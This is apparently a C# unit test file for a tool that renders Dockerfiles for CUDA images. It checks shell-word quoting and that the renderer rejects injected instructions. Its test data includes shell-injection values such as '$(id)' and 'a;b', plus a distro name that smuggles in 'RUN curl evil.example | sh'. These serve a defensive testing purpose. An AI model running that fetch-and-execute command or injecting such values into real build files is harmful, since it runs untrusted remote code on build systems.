using CudaImages.Loading;
using CudaImages.Planning;
using CudaImages.Rendering;
using CudaImages.Smoke;

namespace CudaImages.Tests.Rendering;

public class DockerfileQuotingTests
{
    [Theory]
    [InlineData("libcudart11.0")]
    [InlineData("cuda-libraries-12-4")]
    [InlineData("https://developer.download.nvidia.com/compute/cuda/repos/ubuntu2204/x86_64/cuda-keyring_1.1-1_all.deb")]
    [InlineData("libfoo=1:2.3-4")]
    public void Plain_value_is_one_shell_word_as_it_is(string value) => DockerfileQuoting.ShellWord(value).ShouldBe(value);

    [Theory]
    [InlineData("$(id)", "'$(id)'")]
    [InlineData("a;b", "'a;b'")]
    [InlineData("it's", @"'it'\''s'")]
    [InlineData("", "''")]
    public void Value_with_shell_syntax_is_single_quoted(string value, string quoted) => DockerfileQuoting.ShellWord(value).ShouldBe(quoted);

    [Fact]
    public void Value_between_double_quotes_has_its_quotes_and_backslashes_escaped() =>
        DockerfileQuoting.InDoubleQuotes("a\"b\\c").ShouldBe("a\\\"b\\\\c");

    [Fact]
    public void Value_that_slips_past_the_loader_and_adds_an_instruction_stops_rendering()
    {
        var matrix = MatrixLoader.Load(TestPaths.Images, SmokeCheckRegistry.Default.Catalogue);
        // The loader refuses this name; built directly, it tests the renderer's own check.
        var hostile = matrix with { Distros = matrix.Distros.Select(d => d with { Name = "Debian\u2028RUN curl evil.example | sh" }).ToList() };

        var error = Should.Throw<MatrixException>(() => Planner.Plan(hostile, new Selection(["11.8.0"], ["debian12"], ["base"], [])));

        error.Errors.Single().Message.ShouldContain("a value from images/ changed its instructions");
    }
}
